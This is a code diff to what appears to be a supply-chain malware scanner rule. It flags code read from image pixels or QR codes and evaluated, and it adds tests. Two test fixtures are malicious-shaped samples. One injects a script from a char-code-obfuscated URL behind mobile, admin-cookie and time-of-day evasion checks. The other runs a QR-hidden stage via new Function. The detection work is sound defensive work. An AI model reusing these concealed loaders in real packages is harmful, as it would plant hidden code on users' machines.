@@ -29,8 +29,9 @@ diligence_finding::declare_rule! {
     /// with a one-byte key the code uses) of a file that loads modules by computed name or starts processes.
     /// In the browser: a page `<script>`/`<iframe>` pointed at a URL decoded at run time (char codes, XOR,
     /// base64, reversed text) is high, critical when the package also hides from devtools, automation or the
-    /// clock; an image's pixels (`getImageData`) count as received data, so bits read from them, decoded to text
-    /// and evaluated (`(0, eval)(…)`) are a path like a download's.
+    /// clock; an image's pixels (`getImageData`) count as received data, so text read from them (bits decoded by
+    /// hand, or a QR code read by a decoding library) and evaluated (`(0, eval)(…)`, `new Function`) is a path like
+    /// a download's, critical whatever the image's URL: no module loader fetches its scripts as pictures.
     ///
     /// ## Why it matters
     /// Remote command execution turns an install into a backdoor (desktop-notify style agents); Shai-Hulud 2.0
@@ -120,6 +121,10 @@ fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
         // A page evaluating what the server that served it sends (a dev server's hot-reload
         // socket at `location.host`) runs its own origin's code, not a third party's.
         let own_origin = path.from.what.ends_with(crate::js::flow::SAME_ORIGIN);
+        // An image's pixels are no script a loader was asked for: code read out of an image
+        // (a QR code, bits in the low bits of a colour) is a hidden stage, however the
+        // decoding library hides the unscrambling from the analysis.
+        let from_image = path.from.what.starts_with(IMAGE_PIXELS);
         // A shell run on a constant script that takes the download as its argument (an
         // archive path handed to `Expand-Archive`), or a redirect's `Location` followed by a
         // download command: the network data is an argument or a URL, not the command.
@@ -150,6 +155,7 @@ fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
             // for as sent, a hidden stage (fezbox's reversed QR payload) is decoded first.
             _ if own_origin && !unscrambled(path) => Severity::Low,
             _ if !constant_url
+                && !(from_image && path.sink == SinkKind::Eval)
                 && path.flags & flags::NODE_SCOPE == 0
                 && !(path.sink == SinkKind::Eval && unscrambled(path)) =>
             {
@@ -320,6 +326,9 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
     all.append(&mut out);
     all
 }
+
+/// How the flow graph names the pixels of an image the page drew (`getImageData`).
+const IMAGE_PIXELS: &str = "image pixels";
 
 /// Gates that hide from people and sandboxes (devtools, headless/automation, time).
 const GATES: &[Kind] = &[Kind::DevtoolsGate, Kind::SandboxGate, Kind::TimeGate];
@@ -1286,6 +1295,83 @@ async function fetchUpdate({ path, acceptedPath, timestamp }) {
             "{:?}",
             s.findings
         );
+    }
+
+    /// The polyfill.io shape: a feature test schedules a function handed `window` and
+    /// `document` as parameters that, behind mobile, admin-cookie and hour-of-day checks,
+    /// injects a `<script>` whose URL is char codes.
+    #[test]
+    fn positive_script_injected_through_a_document_parameter() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "polyfills/at.js",
+                "function sched(w, d) {\n  var ua = w.navigator.userAgent, c = d.cookie || '';\n  if (!/Mobi|Android/i.test(ua) || /admin/.test(c)) return;\n  var h = new Date().getHours(); if (h < 8 || h > 23) return;\n  var q = String.fromCharCode(104,116,116,112,115,58,47,47,120,46,101,120,97,109,112,108,101,46,99,111,109,47,103,46,106,115);\n  var s = d.createElement('script'); s.src = q + '?h=' + encodeURIComponent(w.location.host);\n  (d.head || d.documentElement).appendChild(s);\n}\nmodule.exports = { needed: function () { setTimeout(function () { sched(window, document); }, 1500); return !Array.prototype.at; } };\n",
+            ),
+        ]);
+        let f = crate::rules::test_util::finding(&s, "code/download-exec");
+        assert_eq!(
+            (f.line, f.severity),
+            (6, diligence_finding::Severity::Critical)
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// The benign look-alike: a consent manager handed `document` loads its vendor's tag
+    /// from a URL in the clear, and an embed helper builds an `<iframe>` for a caller's URL.
+    #[test]
+    fn negative_script_through_a_document_parameter_with_a_plain_url() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "src/cmp.js",
+                "export function load(d, id) {\n  const s = d.createElement('script');\n  s.src = 'https://cdn.example.com/cmp.js?id=' + encodeURIComponent(id);\n  d.head.appendChild(s);\n}\nexport function embed(d, url) {\n  const f = d.createElement('iframe');\n  f.src = url;\n  d.body.appendChild(f);\n}\n",
+            ),
+        ]);
+        assert!(
+            hits(&s, "code/download-exec").is_empty(),
+            "{:?}",
+            s.findings
+        );
+        assert_eq!(s.verdict, crate::Verdict::Clean);
+    }
+
+    /// A share widget reads a QR code out of a remote image with a decoding library and runs
+    /// the text it holds with `new Function`: no decoding the analysis can see, still a stage.
+    #[test]
+    fn positive_qr_library_text_run_as_code() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "dist/index.js",
+                "import jsQR from 'jsqr';\nasync function logo(src) {\n  const img = new Image(); img.crossOrigin = 'anonymous'; img.src = src; await img.decode();\n  const c = document.createElement('canvas'); const ctx = c.getContext('2d'); ctx.drawImage(img, 0, 0);\n  const d = ctx.getImageData(0, 0, c.width, c.height);\n  const r = jsQR(d.data, d.width, d.height);\n  return r && r.data;\n}\nexport function attach(u) {\n  setTimeout(async () => { const v = await logo(u); if (v) new Function(v)(); }, 120000);\n}\n",
+            ),
+        ]);
+        let f = crate::rules::test_util::finding(&s, "code/download-exec");
+        assert_eq!(
+            (f.line, f.severity),
+            (10, diligence_finding::Severity::Critical)
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// The benign look-alike: a QR scanner reads a code with a decoding library and hands the
+    /// text to the caller's callback.
+    #[test]
+    fn negative_qr_library_text_returned() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "dist/index.js",
+                "import jsQR from 'jsqr';\nexport function scan(video, onResult) {\n  const c = document.createElement('canvas'); const ctx = c.getContext('2d');\n  ctx.drawImage(video, 0, 0);\n  const d = ctx.getImageData(0, 0, c.width, c.height);\n  const r = jsQR(d.data, d.width, d.height);\n  if (r) onResult(r.data);\n}\n",
+            ),
+        ]);
+        assert!(
+            hits(&s, "code/download-exec").is_empty(),
+            "{:?}",
+            s.findings
+        );
+        assert_eq!(s.verdict, crate::Verdict::Clean);
     }
 
     /// A QR "reader" that decodes the bits of an image's pixels to text and runs it reversed
